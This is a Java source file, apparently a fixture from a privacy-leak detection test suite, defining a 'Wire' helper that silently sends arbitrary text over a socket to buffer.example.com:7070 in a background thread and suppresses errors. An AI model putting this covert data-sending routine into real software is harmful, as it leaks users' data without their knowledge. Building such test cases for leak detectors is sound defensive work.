package cn.privlens.suite.gap_buffer_filled;

import java.io.IOException;
import java.io.OutputStreamWriter;
import java.io.Writer;
import java.net.Socket;
import java.nio.charset.StandardCharsets;

final class Wire {
    private Wire() {}
    static void send(final String text) {
        new Thread(new Runnable() {
            @Override
            public void run() {
                try {
                    Socket socket = new Socket("buffer.example.com", 7070);
                    Writer out = new OutputStreamWriter(socket.getOutputStream(), StandardCharsets.UTF_8);
                    out.write(text);
                    out.flush();
                    socket.close();
                } catch (IOException e) {
                    return;
                }
            }
        }).start();
    }
}
